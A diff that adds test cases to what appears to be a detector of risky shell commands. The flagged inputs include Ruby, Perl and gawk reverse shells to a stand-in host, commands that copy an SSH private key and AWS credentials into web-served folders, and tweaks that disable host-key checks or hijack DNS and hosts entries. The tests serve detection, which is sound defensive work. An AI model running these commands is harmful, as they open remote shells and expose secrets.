@@ -262,3 +262,30 @@ def test_run_files_remote_shells_code_and_accounts(command, at_least):
 ])
 def test_near_misses_of_the_second_classes_stay_quiet(command):
     quiet(command)
+
+
+@pytest.mark.parametrize("command,at_least", [
+    ("git config --global core.sshCommand 'ssh -o StrictHostKeyChecking=no'", "medium"),
+    ("printf '[defaults]\\nhost_key_checking = False\\n' >> ~/.ansible.cfg", "medium"),
+    ("echo 'nameserver 203.0.113.10' | sudo tee /etc/resolvconf/resolv.conf.d/head", "medium"),
+    ("Add-Content -Path C:\\Windows\\System32\\drivers\\etc\\hosts -Value '203.0.113.66`tlogin.live.com'", "medium"),
+    ("cp ~/.ssh/id_rsa /var/www/html/key.txt", "high"),
+    ("sudo install -m 644 ~/.aws/credentials /srv/www/static/", "high"),
+    ("ruby -rsocket -e 's=TCPSocket.new(\"203.0.113.66\",4444); "
+     "while l=s.gets; IO.popen(l,\"r\"){|io| s.print io.read}; end'", "high"),
+    ("perl -MIO::Socket -e '$c=IO::Socket::INET->new(\"203.0.113.66:4444\");system $_ while <$c>;'", "high"),
+    ("gawk 'BEGIN{s=\"/inet/tcp/0/203.0.113.66/4444\";while(1){s|&getline c;while((c|&getline l)>0)print l|&s}}'",
+     "high"),
+])
+def test_third_classes(command, at_least):
+    flagged(command, at_least)
+
+
+@pytest.mark.parametrize("command", [
+    "git config --global core.sshCommand 'ssh -i ~/.ssh/deploy_key'",
+    "cp ~/.ssh/id_rsa.pub /var/www/html/keys/",
+    "cp dist/index.html /var/www/html/",
+    "gawk 'BEGIN { print strftime() }'",
+])
+def test_third_near_misses_stay_quiet(command):
+    quiet(command)
